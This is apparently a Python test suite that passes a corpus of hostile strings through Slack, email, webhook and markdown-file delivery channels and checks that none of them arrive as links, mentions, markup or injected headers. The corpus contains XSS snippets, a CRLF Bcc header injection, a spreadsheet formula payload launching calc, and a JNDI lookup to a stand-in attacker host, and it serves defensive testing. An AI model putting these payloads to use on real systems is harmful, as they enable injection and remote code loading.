"""One corpus of nasty texts through every channel: what arrives is parsed, and in it nothing is a mention, a link, a
command, markup or a header."""

import json
import re
from collections.abc import Iterator
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from execution import store
from execution.actions.channels.email import compose, mailbox
from execution.actions.channels.slack_blocks import blocks, escaped, fallback
from execution.actions.channels.webhook import body_of
from execution.actions.channels.wording import safe
from execution.actions.message import read
from execution.actions.outbox import Row
from execution.files import managed
from execution.sandbox.slack.checking import problem
from tests.actions.mailroom import NOW, Office, item, person, told
from tests.actions.receivers import mail_server
from tests.actions.test_inbox import fences_taken_out

NASTY = (
    "<!channel> <!here|x> <@U0EVIL> <#C1> <https://evil.example|Acme>",
    "@channel @here @everyone @ann",
    "&lt;!channel&gt; *bold* _it_ ~no~ `code` ```\nblock```",
    "/invite @evil /topic gone",
    "https://evil.example/login?a=1 HTTP://EVIL.EXAMPLE www.evil.example evil.example/x mailto:a@evil.example",
    "javascript:alert(1) data://text/html;base64,AAAA",
    "[click](https://evil.example) ![x](http://evil.example/p.png) <a href=x>y</a> [ref]: http://evil.example",
    ("# Heading\n## Resolved\n- item\n1. one\n> quote\n---\n| a | b |\n```\n~~~\n<!-- gtm:end inbox -->\n"
    "<!-- gtm:begin inbox x -->"),
    "</p></blockquote><script>alert(1)</script><img src=x onerror=alert(1)><style>*{display:none}</style>",
    "Subject\r\nBcc: evil@evil.example\r\n\r\nbody",
    "a\nX-Evil: 1\nContent-Type: text/html",
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)",
    "\u202eevil\u202c \u2066x\u2069 \u200bzero\ufeff",
    "nul\x00 bell\x07 esc\x1b[31mred\x1b[0m del\x7f c1\x9b",
    "lone \ud800 half", "emoji 🏳️‍🌈 :tada: \U000e0001",
    "{{7*7}} {% raw %} ${jndi:ldap://evil.example/x} %s %(x)s \\",
    "x" * 10_000, "y z " * 2_500, "", " ", "\n" * 300,
)  # fmt: skip


def row(text: str, **more: Any) -> Row:  # noqa: ANN401 - any JSON
    """A row whose every free text is nasty."""
    nasty = item(
        title=text, name=text, account=text, message=text, quote=text, since=text, key=text, trigger=text,
        reason={"named": text, text[:40] or "x": 1, "keywords": {"snippet": text}}, severity=text,
    )  # fmt: skip
    payload = told(nasty, why=text, to=person(**({"name": text, "title": text, "email": "ann@us.example"} | more)))
    at = NOW.replace(tzinfo=None)
    return Row("f" * 32, "a1", "fired", "notify", "notify", "x", "ann", payload, 1, at, at)


def texts(node: object) -> Iterator[tuple[str, str]]:
    """Every (type, text) of text objects in blocks."""
    if isinstance(node, list):
        for each in node:
            yield from texts(each)
    elif isinstance(node, dict):
        if isinstance(node.get("text"), str):
            yield str(node.get("type")), node["text"]
        for each in node.values():
            yield from texts(each)


def storable() -> list[str]:
    """The corpus as a store can have it: without half characters."""
    return [text.encode("utf-8", "replace").decode() for text in NASTY]


LINK = re.compile(r"(?i)\bhttps?://|\bwww\.\w|\bevil\.example|mailto:|javascript:")
MENTION = re.compile(r"@(?=\w)")


def assert_only_words(text: str) -> None:
    assert not LINK.search(text), text[:200]
    assert not MENTION.search(text), text[:200]
    assert all(sign.isprintable() or sign == "\n" for sign in text), ascii(text[:200])


@pytest.mark.parametrize("text", NASTY, ids=ascii)
def test_slack(text: str) -> None:
    message = read(row(text, slack="<!channel>"))
    made = blocks(message, buttons=True, snooze_hours=24)
    assert problem({"text": fallback(message), "blocks": made}) is None, "Slack takes it"
    json.dumps(made).encode("utf-8")
    for kind, words in texts(made):
        assert kind in {"plain_text", "mrkdwn", "text"}
        assert_only_words(words)
        if kind == "mrkdwn":
            pytest.fail("nobody is called here, so nothing is read as markup")
    assert "<" not in fallback(message)
    assert all(block["type"] != "divider" for block in made)


def test_slack_mentions_are_ours_alone() -> None:
    made = blocks(read(row("<@U0EVIL>", slack="U0ANN")), buttons=False, snooze_hours=24)
    mentions = [word for kind, words in texts(made) if kind == "mrkdwn" for word in re.findall(r"<[^>]*>", words)]
    assert mentions == ["<@U0ANN>"]
    group = blocks(read(row("x", slack="S0TEAM")), buttons=False, snooze_hours=24)
    assert "<!subteam^S0TEAM>" in json.dumps(group)
    assert escaped("<!here> & x") == "&lt;!here&gt; &amp; x"


class Tags(HTMLParser):
    """The tags and words of some HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        assert attrs == []

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def assert_is_one_mail(mail: EmailMessage) -> None:
    known = {"Subject", "From", "To", "Date", "Message-ID", "Auto-Submitted", "X-Auto-Response-Suppress",
             "MIME-Version", "Content-Type", "X-Peer", "X-MailFrom", "X-RcptTo"}  # fmt: skip
    assert set(mail.keys()) <= known
    assert [one.addr_spec for one in mail["To"].addresses] == ["ann@us.example"]
    assert "\n" not in str(mail["Subject"])
    plain, html = (mail.get_body((kind,)) for kind in ("plain", "html"))
    assert plain is not None
    assert html is not None
    assert_only_words(plain.get_content().replace("\r\n", "\n"))
    tags = Tags()
    tags.feed(html.get_content())
    assert set(tags.tags) <= {"html", "body", "p", "strong", "br", "blockquote", "small"}
    assert_only_words("".join(tags.words).replace("\r\n", "\n"))


def test_mail_as_a_server_gets_it(tmp_path: Path) -> None:
    with mail_server() as bag:
        where = f"host: 127.0.0.1, port: {bag.port}, security: none, from: a@us.example"
        channel = f"  mail: {{type: email, enabled: true, {where}}}\n"
        office = Office.at(tmp_path, channel)
        for n, text in enumerate(storable()):
            payload = dict(row(text).payload)
            office.put(payload, channel="mail", alert=f"n{n}", occasion=f"n{n}")
        done = office.deliver()
    assert done.count("done") == len(NASTY), [one.error for one in done.handled]
    assert len(bag.mails) == len(NASTY)
    for mail, raw in zip(bag.mails, bag.raw, strict=True):
        assert_is_one_mail(mail)
        assert max(map(len, raw.split(b"\r\n"))) <= 998


@pytest.mark.parametrize(
    "address", ["a@b.c\r\nBcc: x@y.z", "a@b.c, x@y.z", "<a@b.c> x", "a b@c.d", "", "a", "ä@b.c", "a@b.c\0"]
)
def test_what_is_no_address_gets_no_mail(address: str) -> None:
    found = mailbox(address)
    assert found is None or found.address == "a@b.c"
    if found is not None:
        mail = compose(read(row("x")), found, found, NOW)
        assert mail["Bcc"] is None
        assert b"Bcc" not in bytes(mail)


@pytest.mark.parametrize("text", NASTY, ids=ascii)
def test_webhooks_have_it_as_it_is(text: str) -> None:
    body = body_of(row(text))
    assert body.isascii()
    assert json.loads(body)["data"]["items"][0]["quote"] == text


def test_files(tmp_path: Path) -> None:
    office = Office.at(tmp_path)
    stored = storable()
    for n, text in enumerate(stored):
        payload = dict(row(text).payload)
        payload["items"][0]["alert"] = f"n{n}"
        office.put(payload, channel="inbox", alert=f"n{n}")
        office.put(payload | {"prompt": "Look"}, do="agent_task", alert=f"n{n}", recipient=text[:80])
        office.put({"title": text, "note": text, "items": payload["items"]}, do="task", alert=f"n{n}")
        office.put(
            {"entity": "customers", "key": text, "field": "forecast", "value": text}, do="set_field", alert=f"n{n}"
        )
    done = office.deliver()
    assert {one.ending for one in done.handled} == {"done"}

    block = managed.parse(office.text(), "inbox")
    assert block is not None
    assert block.is_untouched
    assert_is_sound_markdown(block.block)
    headings = [line for line in fences_taken_out(block.block).splitlines() if line.startswith("#")]
    assert headings[0] == "# Inbox"
    assert sum(line.startswith("### ") for line in headings) == len(NASTY)
    assert [line for line in headings if line.startswith("## ")] == ["## Medium", "## Other"]
    files = sorted(tmp_path.rglob("personal/*/inbox/*.md"))
    assert len(files) == len(NASTY)
    for file in files:
        assert re.fullmatch(
            r"[a-z0-9_]+/inbox/2026-06-01-[a-z0-9-]+\.md", file.relative_to(tmp_path / "personal").as_posix()
        )
        assert_is_sound_markdown(file.read_text(encoding="utf-8"))
    assert {task["note"] for task in office.rows("FROM ops.tasks")} == set(stored)
    assert sorted(json.loads(field["value"]) for field in office.rows("FROM ops.fields")) == sorted(stored)


def assert_is_sound_markdown(text: str) -> None:
    assert all(sign.isprintable() or sign == "\n" for sign in text)
    assert not re.search(r"(?i)https?://|www\.\w|javascript:", text.replace("\\", ""))
    outside = fences_taken_out(text)
    assert "<" not in outside
    assert not re.search(r"(?<!\\)\]\(|(?<!\\)!\[", outside)
    assert "<!--" not in outside


def test_a_row_that_cannot_be_read_stops_no_other(tmp_path: Path) -> None:
    office = Office.at(tmp_path)
    broken = []
    for n, text in enumerate(("{", '{"title": "\\ud800"}', "")):
        broken.append(office.put(told(), channel="inbox", alert=f"n{n}"))
        with store.writer(office.workspace) as con:
            con.execute("UPDATE ops.outbox SET payload = ? WHERE id = ?", [text, broken[-1]])
    broken.append(office.put({"value": 1}, do="set_field", alert="n3"))
    office.put(told(item("good")), channel="inbox")
    assert office.deliver().count("done") == 1
    assert [office.row(id_)["last_error"] for id_ in broken] == ["its payload cannot be read: a bug"] * 4
    assert "`good`" in office.text()
    assert sorted(line["event"] for line in office.rows("FROM ops.alert_log")) == ["dead"] * 4 + ["delivered"]


def test_safe_keeps_within_its_bounds() -> None:
    for text in NASTY:
        assert len(safe(text, 50)) <= 50
